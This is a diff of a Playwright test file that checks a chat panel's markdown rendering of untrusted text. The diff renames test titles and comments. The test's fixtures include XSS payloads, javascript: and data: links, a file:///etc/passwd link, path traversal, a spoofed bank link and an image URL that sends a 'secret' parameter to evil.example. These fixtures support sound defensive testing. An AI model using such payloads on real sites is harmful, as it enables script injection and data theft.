@@ -8,14 +8,14 @@ import { after, open, saying, usePanels } from './panel-play.ts';
 
 usePanels();
 
-describe('what strangers wrote', () => {
+describe('untrusted text', () => {
   const hostile = `<img src=x onerror="window.hacked = 1"> <script>window.hacked = 2</script>
 
 ![pixel](https://evil.example/p.png?d=secret) [run](command:workbench.action.quit) [js](javascript:window.hacked=3)
 [data](data:text/html,<script>1</script>) [file](file:///etc/passwd) [up](../../../etc/passwd.txt)
 [https://bank.example](https://evil.example/login) https://user:pass@evil.example/ <https://ok.example/>`;
 
-  /** What hostile documents are put together from. */
+  /** The building blocks of hostile documents. */
   const pieces = [
     '<script>window.hacked=1</script>',
     '<img src=x onerror=alert(1)>',
@@ -52,14 +52,14 @@ describe('what strangers wrote', () => {
   const elements =
     'a blockquote br button code div em h2 h3 h4 hr li ol p pre s span strong table tbody td th thead tr ul'.split(' ');
 
-  /** Names of elements, and whatever attribute or address is none that we draw. */
+  /** Element names, and every attribute or URL that we do not render. */
   const whatIsDrawn = `[...new Set([...document.querySelectorAll('markdown-text *, .prompt *')].flatMap((node) => [
     node.localName,
     ...[...node.attributes].filter(({ name }) => /^on|^style$|^src/.test(name)).map(({ name }) => 'attribute ' + name),
     ...(node.localName === 'a' && !/^(?:https?:|#)/.test(node.getAttribute('href')) ? ['address ' + node.href] : []),
   ]))]`;
 
-  test('is text: no element of it, no request for it, no dangerous address', async () => {
+  test('stays text: no element, no request, no dangerous URL', async () => {
     const panel = await open();
     const { page } = panel;
     const request = {
@@ -81,7 +81,7 @@ describe('what strangers wrote', () => {
     expect(await page.locator('markdown-text').first().innerText()).toContain('https://bank.example (evil.example)');
   });
 
-  test('is nothing but these elements, whatever it is', async () => {
+  test('becomes only these elements', async () => {
     const documents = fc.sample(fc.array(fc.constantFrom(...pieces), { maxLength: 80 }), { numRuns: 40, seed: 2026 });
     const events = documents.map((parts, index): ChatEvent[] => [
       { type: 'run-started', session: 's', run: `r${index}`, time: '', model: 'm', prompt: parts.join(' ') },
@@ -95,7 +95,7 @@ describe('what strangers wrote', () => {
     expect(await panel.page.evaluate('window.hacked')).toBeUndefined();
   });
 
-  test('reads in the direction of its script, and cannot turn what stands around it', async () => {
+  test('reads in the direction of its script, and cannot affect the text around it', async () => {
     const { page } = await after(...saying('فشلت الطلبات\n\n> אחד\n\nPay \u202Eevil\u202C `x\u2066y`\n\n- one'));
     const directions = page
       .locator('.markdown > *')
@@ -131,7 +131,7 @@ describe('what strangers wrote', () => {
     await panel.post();
   });
 
-  test('cannot widen the view: endless words and wide tables stay inside', async () => {
+  test('cannot widen the view: long words and wide tables stay inside', async () => {
     const word = 'x'.repeat(5000);
     const wide = `| ${Array.from({ length: 40 }, (_, index) => `column ${index}`).join(' | ')} |`;
     const rule = `|${' --- |'.repeat(40)}`;
